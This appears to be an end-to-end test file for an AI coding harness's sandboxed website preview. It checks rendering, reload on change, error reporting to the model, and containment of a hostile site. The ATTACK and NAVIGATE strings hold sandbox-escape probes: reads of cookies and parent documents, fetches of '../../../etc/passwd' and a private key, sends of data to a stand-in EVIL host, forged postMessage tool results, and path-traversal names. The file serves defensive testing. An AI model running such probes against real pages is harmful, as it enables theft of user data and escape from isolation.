"""The preview (h.preview) in real Chromium, with a model on the scripted provider server
(real OpenAI wire format on loopback): the site it writes is shown the way a static server
would serve it (a style sheet with an @import, an image, an ES module importing another,
data.json fetched at load); a later change reloads it once; its errors (a thrown
exception, a missing import, a 404 image) reach the model's next request through the
preview_errors tool, and the fix clears them. What the site's frame shows is read from
outside, in the frame itself. The page side is e2e/pages/rows/preview.mjs."""

import base64
import io
import json
import os
import zipfile
from pathlib import Path

from e2e.conftest import call


def model(provider):
    return {"api": "openai-chat", "baseUrl": provider.base_url, "apiKey": "sk-test",
            "model": "gpt-test"}


def write(path, content):
    return ["write", {"path": path, "content": content}]


SITE = {
    "site/index.html": """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Sales</title>
<link rel="stylesheet" href="style.css"></head>
<body><h1 id="title">Sales</h1><img id="logo" src="img/logo.svg" alt="logo">
<ul id="rows"></ul><script type="module" src="app.mjs"></script></body></html>""",
    "site/style.css": '@import "base.css";\nh1 { color: rgb(200, 0, 0); }\n',
    "site/base.css": "#rows { margin-left: 7px; }\n",
    "site/img/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20">'
                         '<rect width="40" height="20" fill="#36c"/></svg>',
    "site/lib.mjs": """export function render(rows) {
  const list = document.getElementById("rows");
  for (const row of rows) {
    const item = document.createElement("li");
    item.textContent = `${row.name}: ${row.value}`;
    list.append(item);
  }
}
""",
    "site/app.mjs": """import { render } from "./lib.mjs";
const rows = await (await fetch("data.json")).json();
render(rows);
console.log("rendered", rows.length, "rows");
""",
    "site/data.json": '[{"name": "north", "value": 3}, {"name": "south", "value": 5}]',
}


def site_frame(page):
    """The frame the site runs in: the one inside the preview's guard (preview.html)."""
    for frame in page.frames:
        parent = frame.parent_frame
        if parent is not None and parent.url.split("#")[0].endswith("/pyharness/preview.html"):
            return frame
    raise AssertionError(f"no site frame among {[f.url for f in page.frames]}")


SHOWN = """() => ({
  title: document.getElementById("title")?.textContent,
  color: getComputedStyle(document.getElementById("title")).color,
  margin: getComputedStyle(document.getElementById("rows")).marginLeft,
  image: [document.getElementById("logo").complete, document.getElementById("logo").naturalWidth],
  rows: [...document.querySelectorAll("#rows li")].map((li) => li.textContent),
})"""


def test_the_site_is_shown_and_a_change_reloads_it_once(app, provider, tmp_path):
    provider.script([
        {"text": "Writing the site.", "toolCalls": [write(p, c) for p, c in SITE.items()]},
        {"text": "Done."},
        {"toolCalls": [write("site/style.css",
                             '@import "base.css";\nh1 { color: rgb(0, 0, 200); }\n')]},
        {"text": "Blue now."},
    ])
    r = call(app, "preview.siteThenRestyle", model(provider))
    # before the run: the folder is not there, a 404 page says so
    assert r["empty"]["state"] == "loaded"
    assert any(e["level"] == "error" and "404 /index.html" in e["text"]
               for e in r["empty"]["entries"])
    assert r["first"]["stopReason"] == "stop"
    shown = r["shown"]
    assert shown["state"] == "loaded" and shown["entry"] == "/index.html"
    assert [e for e in shown["entries"] if e["level"] != "log"] == []
    assert {"level": "log", "text": "rendered 2 rows"} in shown["entries"]
    inside = site_frame(app).evaluate(SHOWN)
    assert inside == {"title": "Sales", "color": "rgb(200, 0, 0)", "margin": "7px",
                      "image": [True, 40], "rows": ["north: 3", "south: 5"]}
    out = Path(os.environ.get("PYHARNESS_SCREENSHOTS") or tmp_path)
    out.mkdir(parents=True, exist_ok=True)
    app.locator("#preview-box").screenshot(path=str(out / "preview-site.png"))
    # a later call changes the style: one reload, after the call
    again = call(app, "preview.restyle")
    assert again["done"]["stopReason"] == "stop" and again["loads"] == 1
    assert site_frame(app).evaluate(SHOWN)["color"] == "rgb(0, 0, 200)"
    # closed: the frame is gone; a new preview shows the site again
    reopened = call(app, "preview.closeAndReopen")
    assert reopened["gone"] and reopened["shown"]["state"] == "loaded"


BROKEN = {
    **SITE,
    # a 404 image, a module whose import is missing, and app.mjs throwing
    "site/index.html": SITE["site/index.html"].replace(
        '<ul id="rows">', '<img id="gone" src="img/missing.png" alt=""><ul id="rows">'
        '<script type="module" src="extra.mjs"></script>'),
    "site/extra.mjs": 'import "./missing.mjs";\n',
    "site/app.mjs": 'import { render } from "./lib.mjs";\nrender(null);\n',
}


def test_the_sites_errors_reach_the_model_and_the_fix_clears_them(app, provider):
    provider.script([
        {"toolCalls": [write(p, c) for p, c in BROKEN.items()]},
        {"toolCalls": [["preview_errors", {}]]},
        {"text": "Fixing.", "toolCalls": [write(p, SITE[p]) for p in
                                           ("site/index.html", "site/app.mjs")]},
        {"toolCalls": [["preview_errors", {}]]},
        {"text": "It works now."},
    ])
    r = call(app, "preview.errorsToTheModel", model(provider))
    assert r["done"]["stopReason"] == "stop" and "preview_errors" in r["tools"]
    broken, fixed = r["ends"]
    assert "404 /img/missing.png (from /index.html)" in broken
    assert "404 /missing.mjs (from /extra.mjs)" in broken
    assert "Uncaught TypeError: rows is not iterable (/lib.mjs:3)" in broken
    assert "0 errors, 0 warnings, 1 log lines" in fixed and "rendered 2 rows" in fixed
    # what the model was sent: the scripted server's requests, the tool results in them
    posts = [json.loads(json.dumps(q.body)) for q in provider.requests if q.method == "POST"]
    told = [m["content"] for m in posts[2]["messages"] if m["role"] == "tool"]
    assert any("404 /img/missing.png" in t for t in told)
    told = [m["content"] for m in posts[4]["messages"] if m["role"] == "tool"]
    assert any("rendered 2 rows" in t for t in told)


ATTACK = r"""
const log = (what, value) => console.log(`${what}: ${value}`);
const attempt = async (what, fn) => {
  try { log(what, String(await fn())); } catch (e) { log(what, `threw ${e.name}`); }
};
await attempt("cookie", () => document.cookie);
await attempt("localStorage", () => localStorage.getItem("pagesecret"));
await attempt("indexedDB", () => new Promise((ok, no) => {
  const r = indexedDB.open("x"); r.onsuccess = () => ok("opened"); r.onerror = () => no(r.error);
}));
await attempt("opfs", async () => { await navigator.storage.getDirectory(); return "opened"; });
await attempt("parent.document", () => parent.document.title);
await attempt("top.document", () => top.document.cookie);
await attempt("top.location", () => { top.location.href = "EVIL/attack/top-location"; return "set"; });
await attempt("serviceWorker", async () => { await navigator.serviceWorker.register("sw.js"); return "registered"; });
await attempt("window.open", () => String(window.open("EVIL/attack/open")));
await attempt("fetch evil", async () => (await fetch("EVIL/attack/fetch")).status);
await attempt("fetch page", async () => (await fetch("PAGE/index.html?attack=fetch-page")).status);
await attempt("fetch denied", async () => {
  const r = await fetch("private/key.txt"); return `${r.status} ${await r.text()}`;
});
await attempt("fetch outside", async () => (await fetch("../../../etc/passwd")).status);
await attempt("hook outside", async () => (await __pyharnessPreview.fetch("http://site.preview.invalid/%2e%2e/%2e%2e/x")).status);
await attempt("xhr evil", () => new Promise((ok) => {
  const x = new XMLHttpRequest(); x.open("GET", "EVIL/attack/xhr"); x.onloadend = () => ok(x.status); x.send();
}));
await attempt("beacon", () => navigator.sendBeacon("EVIL/attack/beacon", "x"));
await attempt("websocket", () => new Promise((ok) => {
  const w = new WebSocket("EVIL/attack/ws".replace("http", "ws")); w.onerror = () => ok("error"); w.onopen = () => ok("open");
}));
new Image().src = "EVIL/attack/image";
const frame = document.createElement("iframe"); frame.src = "EVIL/attack/frame"; document.body.append(frame);
const link = document.createElement("link"); link.rel = "prefetch"; link.href = "EVIL/attack/prefetch"; document.head.append(link);
document.getElementById("f").submit();
addEventListener("click", (e) => e.stopImmediatePropagation(), true);  // past the probe's link handler
document.getElementById("top").click();
parent.postMessage({ type: "start", port: null }, "*");
top.postMessage({ type: "frame_ready" }, "*");
top.postMessage({ type: "toolres", id: 1, ok: true, output: "forged" }, "*");
setTimeout(() => { log("spinning", "now"); for (;;) {} }, 1000);  // once the load is told
"""

# The site navigating itself away (a page of its own, shown after the first): what the
# probe does not catch (a meta refresh) leaves an error page in the frame, never a request.
NAVIGATE = r"""
setTimeout(() => { location.href = "EVIL/attack/location"; }, 0);
const inner = document.createElement("iframe"); document.body.append(inner);  // no probe in it
inner.contentWindow.location.href = "EVIL/attack/inner-frame";
const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=EVIL/attack/refresh";
document.head.append(m);
"""


def test_a_hostile_site_stays_in_its_frame(app, provider, server):
    evil = provider.base_url.split("/v1")[0].rstrip("/")
    before = len(server.requests)  # (the page's server is shared by this process's rows)
    r = call(app, "preview.hostileSite", evil, ATTACK, NAVIGATE)
    assert r["loaded"]["state"] == "loaded"
    said = {e["text"].split(": ", 1)[0]: e["text"].split(": ", 1)[1]
            for e in r["entries"] if e["level"] == "log" and ": " in e["text"]}
    for what in ("cookie", "localStorage", "indexedDB", "opfs", "parent.document",
                 "top.document", "top.location", "serviceWorker"):
        assert said[what].startswith("threw "), (what, said[what])
    assert said["window.open"] == "null"
    for what in ("fetch evil", "fetch page", "xhr evil"):
        assert said[what] in ("threw TypeError", "0"), (what, said[what])
    assert said["websocket"] == "error"  # (sendBeacon says true: queued, then blocked)
    assert said["fetch denied"].startswith("403 ") and "the-denied-key" not in said["fetch denied"]
    assert said["fetch outside"] == "404" and said["hook outside"] == "404"
    assert said["spinning"] == "now"
    warned = [e["text"] for e in r["entries"] if e["level"] == "warn"]
    assert any("attack/form) is not submitted" in t for t in warned)
    assert any('<meta http-equiv="refresh"> is not followed' in t for t in warned)
    # judged from outside, at both servers: nothing reached another origin, or the page's
    assert not [q.path for q in provider.requests if "attack" in q.path]
    assert not [p for p in server.requests[before:] if "/attack/" in p or "attack=" in p]
    # the CSP said what it blocked, for the model to read
    blocked = [e["text"] for e in r["entries"] if "Content-Security-Policy" in e["text"]]
    for what in ("fetch", "xhr", "beacon", "ws", "image", "prefetch"):
        assert any(f"attack/{what}" in t for t in blocked), what
    assert r["ticks"] > 50  # the page's timers ran while the site spun (1.5 s)
    assert r["gone"] and r["reopened"]["state"] == "loaded" and r["harnessWorks"]
    assert r["newDiagnostics"] == []  # no forged message was taken
    assert "cookie-of-the-page" not in json.dumps(r["entries"])
    assert "storage-of-the-page" not in json.dumps(r["entries"])


def test_hostile_names_and_sizes_are_bounded(app):
    """Names and sizes: the site's paths out of its root (``..``, ``%2e%2e``, NUL) stay in
    it, a 50 MB file and a page of 2,100 files are bounded, with 10,000 files under the
    root (the preview never lists its root: only what a page asks for is read); modules 60
    deep are served, two that import each other are said to be a cycle."""
    many = io.BytesIO()
    with zipfile.ZipFile(many, "w") as z:
        for i in range(10_000):
            z.writestr(f"site/lots/f{i}.txt", str(i))
    r = call(app, "preview.hostileNames", base64.b64encode(many.getvalue()).decode())
    assert r["imported"]["files"] == 10_000
    entries = r["names"]["entries"]
    logs = {e["text"].split(" ", 1)[0]: e["text"].split(" ", 1)[1]
            for e in entries if e["level"] == "log"}
    assert logs["dotdot"] == "404" and logs["encoded"] == "404"  # /secret.txt of the site
    assert logs["literal"] == "<p>a file named %2e%2e.html</p>"
    assert logs["nul"] == "400"
    assert any(e["text"].startswith("400 /a\\x00b") for e in entries)  # shown, not sent raw
    assert any(e["text"].startswith("413 /big.png") and "up to 16,777,216" in e["text"]
               for e in entries)
    errors = [e["text"] for e in r["files"]["entries"] if e["level"] == "error"]
    assert r["files"]["state"] == "loaded" and len(errors) <= 200
    assert sum(t.startswith("404 /m/") for t in errors) == 20
    assert any("asks for more than 2000 files" in t for t in errors)
    assert any(t.startswith("1979 more files of this page could not be served") for t in errors)
    texts = [e["text"] for e in r["modules"]["entries"]]
    assert "depth 60" in texts  # 60 modules deep: served
    assert "circular import: /a.mjs → /b.mjs → /a.mjs (the preview cannot serve modules " \
        "that import each other in a cycle)" in texts
    # (2,000 files a load: the page itself, 1,999 images; 20 told one by one, then counted)


def test_an_origin_the_page_allows_is_reachable_and_no_other(app, provider, server):
    allowed = provider.base_url.split("/v1")[0].rstrip("/")
    before = len(server.requests)
    r = call(app, "preview.allowedOrigin", allowed)
    logs = dict(e["text"].split(" ", 1) for e in r["entries"] if e["level"] == "log")
    assert logs["page"] == "threw TypeError"
    assert "/preview-allowed" in [q.path for q in provider.requests]  # it reached the server
    assert not [p for p in server.requests[before:] if "preview-not-allowed" in p]
